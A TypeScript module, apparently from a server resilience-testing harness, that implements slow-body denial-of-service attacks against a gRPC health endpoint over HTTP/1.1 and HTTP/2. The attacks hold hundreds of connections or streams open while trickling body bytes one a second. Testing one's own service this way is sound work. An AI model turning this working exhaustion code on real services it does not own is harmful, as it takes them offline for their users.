// Bodies that never end, a byte a second, over both versions of HTTP.
import type { Attack, Target } from './attack.ts';
import { closed, connect, repeat, trickle } from './connection.ts';
import { END_HEADERS, frame, OPENING, request, streams, TYPE } from './frames.ts';

const PATH = '/openk.health.v1.HealthService/ReportHealth';

export const slowBodiesHttp1: Attack = {
  title: 'slow bodies, HTTP/1.1',
  async run(target) {
    const opened = await repeat(target, 300, async () => {
      const socket = await connect(target);
      if (socket === undefined) return;
      socket.write(
        `POST ${PATH} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`,
      );
      await trickle(target, socket, ' '.repeat(999), 1_000);
      await closed(socket);
    });
    return `${opened} connections, 300 at a time`;
  },
};

export const slowBodiesHttp2: Attack = {
  title: 'slow bodies, HTTP/2',
  short: true,
  async run(target) {
    const opened = await repeat(target, 20, () => slowStreams(target));
    return `${opened} connections of 100 streams, 20 at a time`;
  },
};

async function slowStreams(target: Target): Promise<void> {
  const socket = await connect(target);
  if (socket === undefined) return;
  const ids = streams(100);
  const head = request('POST', PATH, [['content-type', 'application/grpc']]);
  socket.write(Buffer.concat([OPENING, ...ids.map((id) => frame(TYPE.headers, END_HEADERS, id, head))]));
  const bytes = Buffer.concat(ids.map((id) => frame(TYPE.data, 0, id, Buffer.of(0))));
  await trickle(target, socket, new Array<Buffer>(1_000).fill(bytes), 1_000);
  await closed(socket);
}
